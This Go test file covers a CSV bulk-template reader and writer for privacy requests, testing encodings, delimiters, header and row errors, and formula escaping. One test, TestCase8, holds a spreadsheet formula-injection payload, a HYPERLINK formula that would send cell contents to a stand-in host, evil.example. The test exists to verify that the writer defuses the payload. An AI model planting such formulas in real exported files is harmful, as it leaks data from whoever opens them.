package csvbulk

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/cxprivacy/cxone/privacy"
	"github.com/google/go-cmp/cmp"
	"golang.org/x/text/encoding/unicode"
	"golang.org/x/text/encoding/unicode/utf32"
)

// got is a file's outcome in comparable form: per row, its line and either
// the subject or the reason and column of its error.
type got struct {
	Rows    []gotRow
	FileErr error // kind (errors.Is target) of a file-level error
}

type gotRow struct {
	Line    int
	Type    privacy.IdentifierType
	Subject privacy.Subject
	Reason  privacy.Reason
	Column  string
}

func sub(line int, t privacy.IdentifierType, v string) gotRow {
	return gotRow{Line: line, Type: t, Subject: privacy.Subject{Type: t, Value: v}}
}

func fail(line int, t privacy.IdentifierType, r privacy.Reason) gotRow {
	col := privacy.FieldSubjectIdentifier
	if r == privacy.ReasonUnknownIdentifierType {
		col = privacy.FieldIdentifierType
	}
	return gotRow{Line: line, Type: t, Reason: r, Column: col}
}

var fileErrKinds = []error{ErrEmpty, ErrNotTemplate, ErrMissingColumn, ErrDuplicateColumn, ErrExtraColumn, ErrMalformed}

func fileErrKind(err error) error {
	for _, k := range fileErrKinds {
		if errors.Is(err, k) {
			return k
		}
	}
	return err
}

func read(t *testing.T, input string, opts ...Option) got {
	t.Helper()
	r, err := NewReader(strings.NewReader(input), opts...)
	if err != nil {
		checkNoLeak(t, err, input)
		return got{FileErr: fileErrKind(err)}
	}
	var g got
	for row, err := range r.Rows() {
		if err != nil {
			checkNoLeak(t, err, input)
			g.FileErr = fileErrKind(err)
			break
		}
		gr := gotRow{Line: row.Line, Type: row.Type, Subject: row.Subject}
		if row.Err != nil {
			checkNoLeak(t, row.Err, input)
			var re *RowError
			if !errors.As(row.Err, &re) {
				t.Fatalf("line %d: row error is %T, want *RowError", row.Line, row.Err)
			}
			gr.Reason, gr.Column = re.Reason, re.Column
		}
		g.Rows = append(g.Rows, gr)
	}
	return g
}

// checkNoLeak fails when an error message repeats any cell of the input that
// is long enough to be an identifier.
func checkNoLeak(t *testing.T, err error, input string) {
	t.Helper()
	msg := err.Error()
	for _, line := range strings.FieldsFunc(input, func(r rune) bool { return r == '\n' || r == '\r' }) {
		for _, c := range strings.FieldsFunc(line, func(r rune) bool { return r == ',' || r == ';' || r == '\t' || r == '"' }) {
			c = strings.TrimSpace(c)
			if len(c) >= 6 && !strings.EqualFold(c, privacy.FieldIdentifierType) && !strings.EqualFold(c, privacy.FieldSubjectIdentifier) && strings.Contains(msg, c) {
				t.Errorf("error message echoes a cell of %d bytes", len(c))
			}
		}
	}
}

const hdr = "Identifier Type,Subject Identifier\r\n"

// TestIssueCases are the issue's cases 1–7, byte for byte.
func TestIssueCases(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, input string
		want        got
	}{
		{"1 utf8 bom", "\xEF\xBB\xBFIdentifier Type,Subject Identifier\r\nEmail,ana.silva@example.com\r\n",
			got{Rows: []gotRow{sub(2, privacy.Email, "ana.silva@example.com")}}},
		{"2 quoted", "\xEF\xBB\xBF\"Identifier Type\",\"Subject Identifier\"\r\n\"Phone\",\"+447700900123\"\r\n",
			got{Rows: []gotRow{sub(2, privacy.Phone, "+447700900123")}}},
		{"3 semicolon", "Identifier Type;Subject Identifier\r\nEmail;ana.silva@example.com\r\nPhone;+447700900456\r\n",
			got{Rows: []gotRow{sub(2, privacy.Email, "ana.silva@example.com"), sub(3, privacy.Phone, "+447700900456")}}},
		{"3 sep line", "sep=;\r\nIdentifier Type;Subject Identifier\r\nUser;agent-4711\r\n",
			got{Rows: []gotRow{sub(3, privacy.User, "agent-4711")}}},
		{"4 blank rows, spaces and zero-width", hdr + " , \r\n\u00a0,\u200b\r\n\t;\r\nUser,agent-4711\r\n",
			got{Rows: []gotRow{fail(4, privacy.Unknown, privacy.ReasonUnknownIdentifierType), sub(5, privacy.User, "agent-4711")}}},
		{"4 blank rows", "Identifier Type,Subject Identifier\r\nEmail,ana.silva@example.com\r\n,\r\n,\r\n\r\n",
			got{Rows: []gotRow{sub(2, privacy.Email, "ana.silva@example.com")}}},
		{"5 messy header", "identifier type , Subject\xC2\xA0Identifier \r\nemail,ana.silva@example.com\r\n",
			got{Rows: []gotRow{sub(2, privacy.Email, "ana.silva@example.com")}}},
		{"5 column order", "Subject Identifier,Identifier Type\r\nagent-4711,User\r\n",
			got{Rows: []gotRow{sub(2, privacy.User, "agent-4711")}}},
		{"5 duplicated column", "Identifier Type,Subject Identifier,Identifier Type\r\nEmail,ana.silva@example.com,Email\r\n",
			got{FileErr: ErrDuplicateColumn}},
		{"6 scientific", hdr + "Phone,4.47701E+11\r\nPhone,4.477009E+11\r\nPhone,+447700900123\r\n",
			got{Rows: []gotRow{
				fail(2, privacy.Phone, privacy.ReasonPhoneScientificNotation),
				fail(3, privacy.Phone, privacy.ReasonPhoneScientificNotation),
				sub(4, privacy.Phone, "+447700900123"),
			}}},
		{"7 artifacts", hdr + "Phone,=+44 7700 900123\r\nPhone,#NAME?\r\nPhone,#44 7700 900123\r\n",
			got{Rows: []gotRow{
				fail(2, privacy.Phone, privacy.ReasonSpreadsheetArtifact),
				fail(3, privacy.Phone, privacy.ReasonSpreadsheetArtifact),
				fail(4, privacy.Phone, privacy.ReasonSpreadsheetArtifact),
			}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(tt.want, read(t, tt.input), cmp.Comparer(errorsEqual)); diff != "" {
				t.Errorf("read mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func errorsEqual(a, b error) bool { return a == b }

func utf16LE(s string) string {
	b, _ := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().String(s)
	return b
}

func utf16BE(s string) string {
	b, _ := unicode.UTF16(unicode.BigEndian, unicode.UseBOM).NewEncoder().String(s)
	return b
}

func utf16LENoBOM(s string) string {
	b, _ := unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM).NewEncoder().String(s)
	return b
}

func utf32LE(s string) string {
	b, _ := utf32.UTF32(utf32.LittleEndian, utf32.UseBOM).NewEncoder().String(s)
	return b
}

func utf32BE(s string) string {
	b, _ := utf32.UTF32(utf32.BigEndian, utf32.UseBOM).NewEncoder().String(s)
	return b
}

func TestFlavours(t *testing.T) {
	t.Parallel()
	two := []gotRow{sub(2, privacy.Email, "ana.silva@example.com"), sub(3, privacy.Phone, "+447700900123")}
	excel := "Identifier Type\tSubject Identifier\r\nEmail\tana.silva@example.com\r\nPhone\t+447700900123\r\n"
	tests := []struct {
		name, input string
		opts        []Option
		want        got
		format      Format
	}{
		{name: "utf8 lf", input: "Identifier Type,Subject Identifier\nEmail,ana.silva@example.com\nPhone,+447700900123\n",
			want: got{Rows: two}, format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "lone cr", input: "Identifier Type,Subject Identifier\rEmail,ana.silva@example.com\rPhone,+447700900123\r",
			want: got{Rows: two}, format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "lone cr no final", input: "Identifier Type,Subject Identifier\rEmail,ana.silva@example.com\rPhone,+447700900123",
			want: got{Rows: two}, format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "mixed CRLF and LF", input: "Identifier Type,Subject Identifier\r\nEmail,ana.silva@example.com\nPhone,+447700900123\r\n",
			want: got{Rows: two}, format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "lone CR and CRLF", input: "Identifier Type,Subject Identifier\rEmail,ana.silva@example.com\r\nPhone,+447700900123\r",
			want: got{Rows: two}, format: Format{Encoding: "UTF-8", Delimiter: ','}},
		// The first line end sets the style: a lone CR later in a CRLF file
		// stays inside its cell, and the parser rejects the cell.
		{name: "lone CR inside a CRLF file", input: "Identifier Type,Subject Identifier\r\nEmail,ana.silva@example.com\rPhone,+447700900123\n",
			want:   got{Rows: []gotRow{fail(2, privacy.Email, privacy.ReasonMultipleIdentifiers)}},
			format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "excel unicode text utf16le tab", input: utf16LE(excel),
			want: got{Rows: two}, format: Format{Encoding: "UTF-16LE", Delimiter: '\t'}},
		{name: "utf16be", input: utf16BE(excel),
			want: got{Rows: two}, format: Format{Encoding: "UTF-16BE", Delimiter: '\t'}},
		{name: "utf16le no bom", input: utf16LENoBOM(excel),
			want: got{Rows: two}, format: Format{Encoding: "UTF-16LE", Delimiter: '\t'}},
		{name: "utf32le", input: utf32LE(excel),
			want: got{Rows: two}, format: Format{Encoding: "UTF-32LE", Delimiter: '\t'}},
		{name: "utf32be", input: utf32BE(excel),
			want: got{Rows: two}, format: Format{Encoding: "UTF-32BE", Delimiter: '\t'}},
		{name: "sep tab", input: "sep=\t\r\n" + excel,
			want:   got{Rows: []gotRow{sub(3, privacy.Email, "ana.silva@example.com"), sub(4, privacy.Phone, "+447700900123")}},
			format: Format{Encoding: "UTF-8", Delimiter: '\t', SepLine: true}},
		{name: "quoted cell spanning lines keeps start line", input: hdr + "Email,\"ana.silva@example.com\r\nbob@example.com\"\r\nPhone,+447700900123\r\n",
			want:   got{Rows: []gotRow{fail(2, privacy.Email, privacy.ReasonMultipleIdentifiers), sub(4, privacy.Phone, "+447700900123")}},
			format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "lone cr inside quotes kept", input: "Identifier Type,Subject Identifier\r\"Email\",\"ana.silva@example.com\rbob@example.com\"\rPhone,+447700900123\r",
			want:   got{Rows: []gotRow{fail(2, privacy.Email, privacy.ReasonMultipleIdentifiers), sub(3, privacy.Phone, "+447700900123")}},
			format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "semicolon with commas in header text", input: "\"Identifier Type\";\"Subject Identifier\";\"Notes, misc\"\r\nUser;agent-4711;x\r\n",
			want:   got{Rows: []gotRow{sub(2, privacy.User, "agent-4711")}},
			format: Format{Encoding: "UTF-8", Delimiter: ';'}},
		{name: "blank lines before header", input: "\r\n\r\n" + hdr + "User,agent-4711\r\n",
			want:   got{Rows: []gotRow{sub(4, privacy.User, "agent-4711")}},
			format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "type words any case, spaces", input: hdr + " PHONE ,+44 7700 900123\r\nuser, agent-4711 \r\n",
			want:   got{Rows: []gotRow{sub(2, privacy.Phone, "+447700900123"), sub(3, privacy.User, "agent-4711")}},
			format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "default region", input: hdr + "Phone,07700 900123\r\n", opts: []Option{WithDefaultRegion("GB")},
			want:   got{Rows: []gotRow{sub(2, privacy.Phone, "+447700900123")}},
			format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "no region", input: hdr + "Phone,07700 900123\r\n",
			want:   got{Rows: []gotRow{fail(2, privacy.Phone, privacy.ReasonInvalidPhone)}},
			format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "row errors", input: hdr + "E-mail,ana.silva@example.com\r\nEmail,\r\nUser,ana.silva@example.com\r\nPhone,\"+447700900123, +447700900456\"\r\nEmail,  \r\n",
			want: got{Rows: []gotRow{
				fail(2, privacy.Unknown, privacy.ReasonUnknownIdentifierType),
				fail(3, privacy.Email, privacy.ReasonMissingIdentifier),
				fail(4, privacy.User, privacy.ReasonIdentifierTypeMismatch),
				fail(5, privacy.Phone, privacy.ReasonMultipleIdentifiers),
				fail(6, privacy.Email, privacy.ReasonMissingIdentifier),
			}},
			format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "short row", input: hdr + "Email\r\n",
			want:   got{Rows: []gotRow{fail(2, privacy.Email, privacy.ReasonMissingIdentifier)}},
			format: Format{Encoding: "UTF-8", Delimiter: ','}},
		{name: "strict extra cells", input: hdr + "Email,ana.silva@example.com,x\r\nEmail,ana.silva@example.com,\r\n", opts: []Option{Strict()},
			want: got{Rows: []gotRow{
				{Line: 2, Reason: ReasonExtraCells, Column: "column 3"},
				sub(3, privacy.Email, "ana.silva@example.com"),
			}},
			format: Format{Encoding: "UTF-8", Delimiter: ','}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(tt.want, read(t, tt.input, tt.opts...), cmp.Comparer(errorsEqual)); diff != "" {
				t.Errorf("read mismatch (-want +got):\n%s", diff)
			}
			r, err := NewReader(strings.NewReader(tt.input), tt.opts...)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.format, r.Format()); diff != "" {
				t.Errorf("Format mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestFileErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, input string
		opts        []Option
		want        error
		msg         string
	}{
		{name: "empty", input: "", want: ErrEmpty, msg: "csvbulk: the file is empty"},
		{name: "only blank lines", input: "\r\n\r\n", want: ErrEmpty},
		{name: "only bom", input: "\xEF\xBB\xBF", want: ErrEmpty},
		{name: "binary", input: "PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", want: ErrNotTemplate,
			msg: "csvbulk: line 1: this is a binary file, not a CSV bulk template; save the template as CSV"},
		{name: "html", input: "<!DOCTYPE html>\n<html><body>Sign in</body></html>\n", want: ErrNotTemplate,
			msg: "csvbulk: line 1: this is an HTML or XML page, not a CSV bulk template; save the template as CSV"},
		{name: "no header", input: "Email,ana.silva@example.com\r\n", want: ErrNotTemplate,
			msg: "csvbulk: line 1: this is not the bulk template: its first line must name the columns \"Identifier Type\" and \"Subject Identifier\""},
		{name: "missing value column", input: "Identifier Type,Identifier\r\nEmail,ana.silva@example.com\r\n", want: ErrMissingColumn,
			msg: "csvbulk: line 1: the column \"Subject Identifier\" is missing from the header"},
		{name: "missing type column", input: "Type;Subject Identifier\r\n", want: ErrMissingColumn},
		{name: "duplicated", input: "Subject Identifier,Identifier Type,SUBJECT  IDENTIFIER\r\n", want: ErrDuplicateColumn,
			msg: "csvbulk: line 1: the column \"Subject Identifier\" appears twice (columns 1 and 3); keep one"},
		{name: "strict extra column", input: "Identifier Type,Subject Identifier,Notes\r\n", opts: []Option{Strict()}, want: ErrExtraColumn},
		{name: "broken quoting", input: hdr + "Email,ana.silva@example.com\r\nEmail,\"ana\"x@example.com\r\n", want: ErrMalformed,
			msg: "csvbulk: line 3: broken quoting (a stray or missing \"): the file was not written by a spreadsheet program; fix this line or save it again as CSV"},
		{name: "unterminated quote", input: hdr + "Email,\"ana.silva@example.com\r\nEmail,bob@example.com\r\n", want: ErrMalformed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var err error
			r, err := NewReader(strings.NewReader(tt.input), tt.opts...)
			if err == nil {
				for _, e := range r.Rows() {
					if e != nil {
						err = e
						break
					}
				}
			}
			if !errors.Is(err, tt.want) {
				t.Fatalf("error = %v, want kind %v", err, tt.want)
			}
			var fe *FileError
			if !errors.As(err, &fe) {
				t.Fatalf("error is %T, want *FileError", err)
			}
			if tt.msg != "" {
				if diff := cmp.Diff(tt.msg, err.Error()); diff != "" {
					t.Errorf("message (-want +got):\n%s", diff)
				}
			}
		})
	}
}

func TestBrokenQuotingAfterRowsStopsIteration(t *testing.T) {
	t.Parallel()
	r, err := NewReader(strings.NewReader(hdr + "Email,ana.silva@example.com\r\nEmail,\"ana\"x@example.com\r\nUser,agent-4711\r\n"))
	if err != nil {
		t.Fatal(err)
	}
	var lines []int
	var last error
	for row, err := range r.Rows() {
		if err != nil {
			last = err
			continue
		}
		lines = append(lines, row.Line)
	}
	if diff := cmp.Diff([]int{2}, lines); diff != "" {
		t.Errorf("lines (-want +got):\n%s", diff)
	}
	if !errors.Is(last, ErrMalformed) {
		t.Errorf("last error = %v, want ErrMalformed", last)
	}
}

func TestWarnings(t *testing.T) {
	t.Parallel()
	r, err := NewReader(strings.NewReader("Notes,Identifier Type,Subject Identifier,,Extra\r\nx,Email,ana.silva@example.com,,y\r\n,User,agent-4711,,,z\r\n,User,agent-4712,,,z\r\n"))
	if err != nil {
		t.Fatal(err)
	}
	var rows []gotRow
	for row, err := range r.Rows() {
		if err != nil {
			t.Fatal(err)
		}
		rows = append(rows, gotRow{Line: row.Line, Type: row.Type, Subject: row.Subject})
	}
	wantRows := []gotRow{sub(2, privacy.Email, "ana.silva@example.com"), sub(3, privacy.User, "agent-4711"), sub(4, privacy.User, "agent-4712")}
	if diff := cmp.Diff(wantRows, rows); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
	want := []Warning{
		{Line: 1, Msg: "column 1 is not part of the template and is ignored"},
		{Line: 1, Msg: "column 5 is not part of the template and is ignored"},
		{Line: 3, Msg: "has cells beyond the header's columns; they are ignored (further such rows are not reported)"},
	}
	if diff := cmp.Diff(want, r.Warnings()); diff != "" {
		t.Errorf("warnings (-want +got):\n%s", diff)
	}
}

func TestRowErrorMessage(t *testing.T) {
	t.Parallel()
	r, err := NewReader(strings.NewReader(hdr + "Phone,4.47701E+11\r\n"))
	if err != nil {
		t.Fatal(err)
	}
	for row, err := range r.Rows() {
		if err != nil {
			t.Fatal(err)
		}
		want := `line 2, column "Subject Identifier": is a number in scientific notation: a spreadsheet rounded it and its digits are lost; format the column as text and enter the number again (phone_scientific_notation)`
		if diff := cmp.Diff(want, row.Err.Error()); diff != "" {
			t.Errorf("message (-want +got):\n%s", diff)
		}
		var pe *privacy.ParseError
		if !errors.As(row.Err, &pe) || pe.Reason != privacy.ReasonPhoneScientificNotation {
			t.Errorf("row error does not wrap the *privacy.ParseError")
		}
	}
}

func TestItems(t *testing.T) {
	t.Parallel()
	r, err := NewReader(strings.NewReader(hdr + "Email,Ana.Silva@Example.COM\r\nPhone,4.47701E+11\r\nEmail,\"x\"y\r\nUser,agent-4711\r\n"))
	if err != nil {
		t.Fatal(err)
	}
	var got []gotRow
	for it := range r.Items() {
		g := gotRow{Line: it.Line, Type: it.Type, Subject: it.Subject}
		var re *RowError
		if errors.As(it.Err, &re) {
			g.Reason, g.Column = re.Reason, re.Column
		}
		got = append(got, g)
	}
	want := []gotRow{
		sub(2, privacy.Email, "Ana.Silva@example.com"),
		fail(3, privacy.Phone, privacy.ReasonPhoneScientificNotation),
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("items (-want +got):\n%s", diff)
	}
	if !errors.Is(r.Err(), ErrMalformed) {
		t.Errorf("Err() = %v, want ErrMalformed", r.Err())
	}
}

func TestRowsOnce(t *testing.T) {
	t.Parallel()
	r, err := NewReader(strings.NewReader(hdr + "User,agent-4711\r\n"))
	if err != nil {
		t.Fatal(err)
	}
	for range r.Rows() {
	}
	for _, err := range r.Rows() {
		if err == nil {
			t.Errorf("second range yielded a row")
		}
	}
}

func TestBadRegionOption(t *testing.T) {
	t.Parallel()
	if _, err := NewReader(strings.NewReader(hdr), WithDefaultRegion("XX")); err == nil {
		t.Errorf("NewReader with region XX = nil error")
	}
}

// TestCase8 is the issue's case 8: dangerous values are written so that no
// spreadsheet runs them, and read back unchanged.
func TestCase8(t *testing.T) {
	t.Parallel()
	values := []string{`=HYPERLINK("http://evil.example/?d="&A1,"open")`, `@SUM(1+1)`, `-agent-4711`, `+447700900123`}
	types := []privacy.IdentifierType{privacy.Email, privacy.Email, privacy.User, privacy.Phone}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	for i, v := range values {
		if err := w.WriteSubject(types[i], v); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	wantFile := "Identifier Type,Subject Identifier\r\n" +
		"Email,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\"\r\n" +
		"Email,'@SUM(1+1)\r\n" +
		"User,'-agent-4711\r\n" +
		"Phone,+447700900123\r\n"
	if diff := cmp.Diff(wantFile, buf.String()); diff != "" {
		t.Errorf("written file (-want +got):\n%s", diff)
	}

	// What a spreadsheet sees after CSV unquoting: no cell starts a formula.
	cells, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range cells {
		for j, c := range rec {
			if c != "" && isTrigger(c[0]) && !isE164(c) {
				t.Errorf("record %d cell %d would run as a formula", i+1, j+1)
			}
		}
	}

	rr, err := NewRecordReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	var back []string
	for rec, err := range rr.Records() {
		if err != nil {
			t.Fatal(err)
		}
		if rec.Line > 1 {
			back = append(back, rec.Fields[1])
		}
	}
	if diff := cmp.Diff(values, back); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}

	// The template reader undoes the rule too, then judges the values.
	wantRows := got{Rows: []gotRow{
		fail(2, privacy.Email, privacy.ReasonSpreadsheetArtifact),
		fail(3, privacy.Email, privacy.ReasonSpreadsheetArtifact), // @SUM(1+1)
		sub(4, privacy.User, "-agent-4711"),
		sub(5, privacy.Phone, "+447700900123"),
	}}
	if diff := cmp.Diff(wantRows, read(t, buf.String()), cmp.Comparer(errorsEqual)); diff != "" {
		t.Errorf("template read (-want +got):\n%s", diff)
	}
}

func TestFormulaRule(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"", ""},
		{"ana.silva@example.com", "ana.silva@example.com"},
		{"=1+1", "'=1+1"},
		{"+447700900123", "+447700900123"},
		{"+44 7700 900123", "'+44 7700 900123"},
		{"+", "'+"},
		{"-4711", "'-4711"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'=x", "''=x"},
		{"''", "'''"},
		{"'", "'"},
		{"'abc", "'abc"},
	}
	for _, tt := range tests {
		if got := EscapeFormula(tt.in); got != tt.want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if got := UnescapeFormula(EscapeFormula(tt.in)); got != tt.in {
			t.Errorf("round trip of %q = %q", tt.in, got)
		}
	}
}

func TestReport(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := NewWriter(&buf)
	results := []Result{
		{Line: 2, Type: privacy.Email, Outcome: "processed", RequestID: "8f0c2a4e-1b2d-4c3e-9f00-000000000001"},
		{Line: 3, Type: privacy.Phone, Outcome: "failed", Reason: "phone_scientific_notation"},
		{Line: 4, Type: privacy.Unknown, Outcome: "failed", Reason: "unknown_identifier_type"},
		{Line: 5, Type: privacy.Email, Outcome: "skipped", Reason: "duplicate"},
	}
	for _, r := range results {
		if err := w.WriteResult(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.WriteSubject(privacy.Email, "x"); err == nil {
		t.Errorf("WriteSubject after WriteResult = nil error")
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "Line,Identifier Type,Outcome,Reason,Request ID\r\n" +
		"2,Email,processed,,8f0c2a4e-1b2d-4c3e-9f00-000000000001\r\n" +
		"3,Phone,failed,phone_scientific_notation,\r\n" +
		"4,,failed,unknown_identifier_type,\r\n" +
		"5,Email,skipped,duplicate,\r\n"
	if diff := cmp.Diff(want, buf.String()); diff != "" {
		t.Errorf("report (-want +got):\n%s", diff)
	}
}

func TestWriterBOM(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := NewWriter(&buf, WithBOM())
	if err := w.WriteSubject(privacy.Email, "ana@bücher.example"); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "\xEF\xBB\xBFIdentifier Type,Subject Identifier\r\nEmail,ana@bücher.example\r\n"
	if diff := cmp.Diff(want, buf.String()); diff != "" {
		t.Errorf("file (-want +got):\n%s", diff)
	}
	wantRows := got{Rows: []gotRow{sub(2, privacy.Email, "ana@xn--bcher-kva.example")}}
	if diff := cmp.Diff(wantRows, read(t, buf.String()), cmp.Comparer(errorsEqual)); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}
}

func TestRecordReaderReport(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := NewWriter(&buf)
	want := []Result{
		{Line: 2, Type: privacy.Email, Outcome: "processed", RequestID: "8f0c2a4e"},
		{Line: 3, Type: privacy.Phone, Outcome: "failed", Reason: "invalid_phone"},
	}
	for _, r := range want {
		if err := w.WriteResult(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rr, err := NewRecordReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	var lines []int
	var recs [][]string
	for rec, err := range rr.Records() {
		if err != nil {
			t.Fatal(err)
		}
		lines = append(lines, rec.Line)
		recs = append(recs, append([]string(nil), rec.Fields...))
	}
	wantRecs := [][]string{
		{"Line", "Identifier Type", "Outcome", "Reason", "Request ID"},
		{"2", "Email", "processed", "", "8f0c2a4e"},
		{"3", "Phone", "failed", "invalid_phone", ""},
	}
	if diff := cmp.Diff(wantRecs, recs); diff != "" {
		t.Errorf("records (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]int{1, 2, 3}, lines); diff != "" {
		t.Errorf("lines (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(Format{Encoding: "UTF-8", Delimiter: ','}, rr.Format()); diff != "" {
		t.Errorf("format (-want +got):\n%s", diff)
	}
	for _, err := range rr.Records() {
		if err == nil {
			t.Errorf("second range yielded a record")
		}
	}
}

func TestRecordReaderSniffs(t *testing.T) {
	t.Parallel()
	rr, err := NewRecordReader(strings.NewReader("a;b;c,d\r\n1;2;3\r\n"))
	if err != nil {
		t.Fatal(err)
	}
	if got := rr.Format().Delimiter; got != ';' {
		t.Errorf("delimiter = %q, want ';'", got)
	}
	if _, err := NewRecordReader(strings.NewReader("")); !errors.Is(err, ErrEmpty) {
		t.Errorf("empty file error = %v, want ErrEmpty", err)
	}
}

func TestTemplate(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	if err := Template(&buf); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff("Identifier Type,Subject Identifier\r\n", buf.String()); diff != "" {
		t.Errorf("template (-want +got):\n%s", diff)
	}
	r, err := NewReader(&buf)
	if err != nil {
		t.Fatalf("the template does not read back: %v", err)
	}
	for range r.Rows() {
		t.Errorf("empty template yielded a row")
	}
}

// A line of megabytes is no template row: it is refused at its line, without
// reading it whole.
func TestReadRefusesHugeLine(t *testing.T) {
	t.Parallel()
	huge := "Identifier Type,Subject Identifier\r\nEmail,ana.silva@example.com\r\nEmail," + strings.Repeat("a", 3<<20) + "\r\n"
	r, err := NewReader(strings.NewReader(huge))
	if err != nil {
		t.Fatal(err)
	}
	rows := 0
	for _, err = range r.Rows() {
		if err != nil {
			break
		}
		rows++
	}
	var fe *FileError
	if !errors.As(err, &fe) || fe.Line != 3 || !errors.Is(fe, ErrMalformed) {
		t.Fatalf("after %d rows: error = %v, want ErrMalformed at line 3", rows, err)
	}
	if rows != 1 {
		t.Errorf("%d rows before the long line, want 1", rows)
	}
	if strings.Contains(err.Error(), "aaaa") {
		t.Error("the error echoes the cell")
	}
}
